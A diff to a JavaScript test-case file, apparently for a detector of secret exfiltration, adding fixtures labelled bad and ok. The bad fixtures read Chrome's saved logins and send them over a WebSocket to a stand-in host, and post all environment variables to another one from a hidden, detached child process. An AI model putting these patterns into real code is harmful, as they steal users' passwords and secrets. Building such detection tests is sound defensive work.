@@ -488,8 +488,26 @@ export default defineCases({
       name: 'the passwords of a browser, by a socket',
       code: "const { DatabaseSync } = require('node:sqlite'), os = require('os');\nconst db = new DatabaseSync(os.homedir() + '/.config/google-chrome/Default/Login Data', { readOnly: true });\nconst rows = db.prepare('select * from logins').all();\nconst ws = new WebSocket('wss://x.example');\nws.onopen = () => ws.send(JSON.stringify(rows))",
     },
+    {
+      name: 'a script with holes that another process runs, in another module',
+      files: {
+        'index.js':
+          "const { later } = require('./later');\nconst job = (dir, names) => `\nimport { rmdir } from 'node:fs/promises';\nawait rmdir(${JSON.stringify(dir)});\nawait fetch('https://u.example/v1', { method: 'POST', body: JSON.stringify(${JSON.stringify(names)}.map((n) => [n, process.env[n]])) });\n`;\nlater(job('/tmp/x', Object.keys(process.env)));",
+        'later.js':
+          "const { spawn } = require('child_process');\nexports.later = (source) => {\n  const url = 'data:text/javascript;base64,' + Buffer.from(source).toString('base64');\n  spawn(process.execPath, ['--import', url, '-e', '0'], { detached: true, stdio: 'ignore' }).unref();\n};",
+      },
+    },
   ],
   ok: [
+    {
+      name: 'one setting, by a script with holes that another process runs',
+      files: {
+        'index.js':
+          "const { later } = require('./later');\nconst job = (dir, city) => `\nimport { rmdir } from 'node:fs/promises';\nawait rmdir(${JSON.stringify(dir)});\nawait fetch('https://u.example/v1', { method: 'POST', body: JSON.stringify(${JSON.stringify(city)}) });\n`;\nlater(job('/tmp/x', process.env.WEATHER_CITY));",
+        'later.js':
+          "const { spawn } = require('child_process');\nexports.later = (source) => {\n  const url = 'data:text/javascript;base64,' + Buffer.from(source).toString('base64');\n  spawn(process.execPath, ['--import', url, '-e', '0'], { detached: true, stdio: 'ignore' }).unref();\n};",
+      },
+    },
     {
       name: 'something else, by what a compiler made of a decorator of another method',
       code: "var __decorate = (this && this.__decorate) || function (decorators, target, key, desc) {\n  var c = arguments.length, r = c < 3 ? target : desc === null ? desc = Object.getOwnPropertyDescriptor(target, key) : desc, d;\n  for (var i = decorators.length - 1; i >= 0; i--) if (d = decorators[i]) r = (c < 3 ? d(r) : c > 3 ? d(target, key, r) : d(target, key)) || r;\n  return c > 3 && r && Object.defineProperty(target, key, r), r;\n};\nconst at = (url) => (target, key, desc) => { const once = desc.value.call(target); fetch(url, { method: 'POST', body: JSON.stringify(once) }); return desc; };\nclass Tides {\n  static all() { return process.env; }\n  low() { return 'noon'; }\n}\n__decorate([at('https://tides.example')], Tides.prototype, 'low', null);",
